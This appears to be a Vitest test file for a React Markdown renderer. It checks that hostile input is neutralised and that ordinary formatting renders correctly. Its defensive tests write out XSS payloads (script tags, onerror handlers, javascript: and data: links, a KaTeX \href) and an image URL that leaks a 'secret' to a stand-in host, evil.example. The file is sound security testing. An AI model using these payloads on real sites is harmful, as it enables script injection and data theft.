// @vitest-environment happy-dom
import { cleanup, render, waitFor } from '@testing-library/react';
import { afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import { Markdown } from './markdown.tsx';

// What happy-dom lacks of a browser: threads, and a document type for KaTeX.
beforeAll(() => {
  vi.stubGlobal(
    'Worker',
    class extends EventTarget {
      postMessage() {}
    },
  );
  Object.defineProperty(document, 'compatMode', { value: 'CSS1Compat' });
});
afterEach(cleanup);

/** Renders text the way a finished answer is shown, once the parser has been fetched. */
async function show(text: string, growing = false): Promise<HTMLElement> {
  const view = render(<Markdown text={text} growing={growing} />);
  await waitFor(() => expect(view.container.querySelector('.md-block, .md-fence')).not.toBeNull());
  return view.container;
}

describe('hostile Markdown', () => {
  test('raw HTML is text: no script, no handler, no frame', async () => {
    const page = await show(
      'A <script>alert(1)</script> <b onclick="x()">b</b>\n\n<img src=x onerror=alert(1)>\n\n<iframe src="https://evil.example"></iframe>\n\n<style>*{display:none}</style>',
    );
    expect(page.querySelector('script, iframe, style, img, b, [onclick], [onerror]')).toBeNull();
    expect(page.textContent).toContain('<script>alert(1)</script>');
    expect(page.textContent).toContain('<img src=x onerror=alert(1)>');
  });

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>1</script>',
    'vbscript:x',
    'file:///etc/passwd',
    '/api/auth/rotate',
    '//evil.example/x',
  ])('a link to %s cannot be followed', async (target) => {
    const page = await show(`[click](<${target}>)`);
    expect(page.querySelector('a')).toBeNull();
    expect(page.textContent).toContain('click');
  });

  test('a picture from elsewhere is a link that shows its target, and loads nothing', async () => {
    const page = await show(
      '![secret](https://evil.example/log?q=secret) ![][r]\n\n[r]: https://evil.example/2\n',
    );
    expect(page.querySelector('img, link, source')).toBeNull();
    expect([...page.querySelectorAll('a')].map((link) => link.href)).toEqual([
      'https://evil.example/log?q=secret',
      'https://evil.example/2',
    ]);
  });

  test('links open apart, without a referrer or a way back', async () => {
    const page = await show('[docs](https://example.com/a)');
    const link = page.querySelector('a');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toBe('noopener noreferrer');
    expect(link?.title).toBe('https://example.com/a');
  });

  test.each([
    ['quotations', `${'>'.repeat(20_000)} deep`],
    ['lists', `${'- '.repeat(20_000)} deep`],
    ['brackets', `${'['.repeat(20_000)}deep${']'.repeat(20_000)}`],
    ['emphasis', `${'*a _b '.repeat(5000)}deep`],
    ['links', `${'[a]('.repeat(5000)}deep`],
  ])('20,000 nested %s do not end the page', async (_, text) => {
    const page = await show(text);
    expect(page.textContent).toContain('deep');
  });
});

describe('what a reader gets', () => {
  test('a price stays a price', async () => {
    const page = await show('It costs $5, or $10 for two.');
    expect(page.textContent).toBe('It costs $5, or $10 for two.');
  });

  test('tables, task lists and struck text', async () => {
    const page = await show('| a | b |\n| - | - |\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n~~old~~');
    expect(page.querySelectorAll('td')).toHaveLength(2);
    expect([...page.querySelectorAll('input')].map((box) => box.checked)).toEqual([true, false]);
    expect(page.querySelector('del')?.textContent).toBe('old');
  });

  test('a fence with its language, a file name and a button to copy it', async () => {
    const page = await show('```ts watcher.ts\nconst a = 1;\n```\n');
    expect(page.querySelector('figcaption')?.textContent).toContain('TypeScript · watcher.ts');
    expect(page.querySelector('pre')?.textContent).toBe('const a = 1;\n');
    expect(page.querySelector('button[aria-label="Copy code"]')).not.toBeNull();
  });

  test('unfinished emphasis while text arrives is shown as it will be', async () => {
    const page = await show('Some **bold te', true);
    await waitFor(() => expect(page.querySelector('strong')?.textContent).toBe('bold te'));
  });

  test('a link defined at the end of the text works above it', async () => {
    const page = await show('See [the docs][d].\n\nMore.\n\n[d]: https://example.com/\n');
    expect(page.querySelector('a')?.href).toBe('https://example.com/');
  });

  test('finished blocks keep their elements while more arrives', async () => {
    const view = render(<Markdown text={'One.\n\nTwo'} growing />);
    await waitFor(() => expect(view.container.querySelectorAll('p')).toHaveLength(2));
    const first = view.container.querySelector('p');
    view.rerender(<Markdown text={'One.\n\nTwo more.\n\nThree'} growing />);
    expect(view.container.querySelector('p')).toBe(first);
    expect(view.container.textContent).toContain('Three');
  });

  test('a formula is drawn', async () => {
    const page = await show('Euler: \\(e^{i\\pi}\\).');
    await waitFor(() => expect(page.querySelector('.katex')).not.toBeNull());
  });

  test('a formula cannot link or load', async () => {
    const page = await show(
      '\\(\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/x.png}\\)',
    );
    await waitFor(() => expect(page.querySelector('.katex')).not.toBeNull());
    expect(page.querySelector('a, img')).toBeNull();
  });
});
